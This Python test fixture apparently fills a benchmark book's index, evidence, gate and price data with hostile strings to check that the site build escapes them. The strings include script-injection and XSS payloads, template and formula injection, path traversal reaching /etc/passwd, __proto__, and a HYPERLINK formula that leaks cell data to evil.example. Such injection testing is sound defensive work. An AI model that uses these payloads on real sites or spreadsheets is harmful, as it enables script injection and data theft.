"""A small book in which every text that comes from outside tries to be more than text (fault kind 24)."""

from __future__ import annotations

import copy
import itertools
import json
from collections.abc import Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any

from made_up import copy_book, made_up_index, write_run

from siiq_core.files import canonical_bytes
from siiq_core.publish.bookbuild import build_book

# Whatever runs says so in `window.ran`; whatever loads asks for a file "x" or a host that is none.
TEXTS = {
    "image": "<img src=x onerror=window.ran=1>",
    "attribute": '"><script>window.ran=2</script>',
    "quote": "' onmouseover='window.ran=3' autofocus onfocus='window.ran=3",
    "end of script": "</script><script>window.ran=4</script>",
    "address": "javascript:window.ran=5",
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "formula after a blank": "\t=1+1",
    "at": "@SUM(1)",
    "path": "../../../x",
    "turned round": "Nova \u202e9-avoN\u2066\u200f",
    "separators": "a\u2028b\u2029c",
    "template": "{{ 7*7 }}${7*7}{% raw %}#{7}",
    "end of data": "]]><script>window.ran=6</script>",
    "directive": "```{include} /etc/passwd\n```\n{include}`/etc/passwd` ![x](x)",
    "formula of mathematics": "$\\href{javascript:window.ran=7}{x}$ \\(y\\)",
    "entity": "&lt;img src=x onerror=window.ran=8&gt; &#60;b&#62; &amp;",
    "drawing": "</text></svg><svg onload=window.ran=9><title>",
    "comment": "--><!--<script>window.ran=10</script>",
    "link": "[x](javascript:window.ran=11) <https://evil.example>",
    "of every object": "__proto__",
    "half": "\\u003cimg src=x onerror=window.ran=12\\u003e\\",
}
LONG = "n" * 10_000


def hostile_index(root: Path) -> dict[str, Any]:
    """The made-up index with other texts: names, developers, access, versions, settings, evaluators, sources, reasons."""
    index = copy.deepcopy(made_up_index(root))
    texts: Iterator[str] = itertools.cycle(TEXTS.values())
    evaluators: dict[str, str] = {}

    def evaluator(name: str) -> str:
        return evaluators.setdefault(name, f"{next(texts)} {name}")

    for bench in index["benchmarks"]:
        bench["name"], bench["evaluator"] = next(texts), evaluator(bench["evaluator"])
    for model, text in zip(index["models"], itertools.cycle(TEXTS.values())):
        model["name"], model["developer"], model["access"] = text, f"{next(texts)}, {next(texts)}", next(texts)
        for result in model["results"]:
            result["version"], result["setting"], result["evaluator"] = next(texts), next(texts), evaluator(result["evaluator"])
    for source in index["sources"]:
        source["name"], source["attribution"] = TEXTS["image"], TEXTS["attribute"]
    for entry in index["reference_group"]["not_qualified"]:
        entry["name"], entry["reason"] = TEXTS["drawing"], TEXTS["end of script"]
    return index


def hostile_gate() -> dict[str, Any]:
    """What the gate tells, with the words of publishers, of a second reader and of an operator in it."""
    from siiq_core.gate.telling import told
    from tests.gate.ledgers import case_of, entries_of

    gate = json.loads(json.dumps(told([x for *_, x in entries_of(case_of("U10-seven-days"))][-1])))
    more = json.loads(json.dumps(told([x for *_, x in entries_of(case_of("operator-rejects"))][-1])))
    other = json.loads(json.dumps(told([x for *_, x in entries_of(case_of("U6a-unreadable"))][1])))
    gate["news"] = sorted([*gate["news"], *more["news"], *other["news"]], key=lambda x: x["at"])
    gate["corrections"] = [{"at": "2026-09-01T00:00:00Z", "action": "reject", "who": text, "reason": f"{text} {LONG[:300]}", "model": "nova-9", "benchmark": "quiz-a"} for text in TEXTS.values()]
    _spoilt(gate, itertools.cycle(TEXTS.values()))
    return gate


def _spoilt(value: Any, texts: Iterator[str]) -> None:
    """Free texts under the names that hold words of others; sentences made of codes keep their form."""
    if isinstance(value, dict):
        for key, inner in value.items():
            if key in ("what", "because", "reader", "note") and isinstance(inner, str) and " " in inner:
                value[key] = f"{next(texts)} {inner}"
            _spoilt(inner, texts)
    elif isinstance(value, list):
        for inner in value:
            _spoilt(inner, texts)


def write_hostile_run(folder: Path, index: dict[str, Any]) -> Path:
    """The run's files, with hostile raw rows, file names, waiting names, reports, reasons, price names and a gate."""
    write_run(folder, index)
    texts = itertools.cycle(TEXTS.values())
    lines = [json.loads(line) for line in (folder / "evidence.jsonl").read_text(encoding="utf-8").splitlines()]
    for number, record in enumerate(lines[1:]):
        record["row"] = {"Model version": record["version"], "Score": record["row"]["Score"], **{text: next(texts) for text in itertools.islice(texts, 3)}, "Long": LONG if number % 20 == 0 else next(texts)}
        record["file"] = next(texts)
        record["checker"] = {"who": next(texts), "when": None, "outcome": next(texts)}
    (folder / "evidence.jsonl").write_text("".join(json.dumps(x) + "\n" for x in lines), encoding="utf-8")
    facts = json.loads((folder / "fetch.json").read_bytes())
    facts["waiting_names"] = [{"source": "nowhere", "name": text, "rows": 2, "since": "2025-05-01", "reason": text} for text in (*TEXTS.values(), LONG)]
    facts["reports"] = [f"I1: {text}" for text in TEXTS.values()]
    facts["left_out"] += [{"rule": "E1", "reason": text, "benchmark": "quiz-b", "source": "nowhere", "file": text, "row": text} for text in TEXTS.values()]
    for told in facts["configuration"].values():
        told |= {"file": next(texts), "score_column": next(texts), "filter": next(texts), "error_column": next(texts)}
    facts["gate"] = hostile_gate()
    (folder / "fetch.json").write_bytes(canonical_bytes(facts))
    prices = json.loads((folder / "prices.json").read_bytes())
    for price in prices["prices"]:
        price["names"], price["tiers"][0]["name"] = list(TEXTS.values()), "standard"
    (folder / "prices.json").write_bytes(canonical_bytes(prices))
    return folder


def build_hostile(root: Path, base: Path) -> SimpleNamespace:
    """The book: where it is, and what it was made from."""
    copy_book(root, base)
    index = hostile_index(root)
    run = write_hostile_run(base / "_build" / "run", index)
    build_book(index, run, base / "_build" / "html", base, "https://example.org/siiq", lambda text: None)
    return SimpleNamespace(root=base, run=run, site=base / "_build" / "html", index=index)
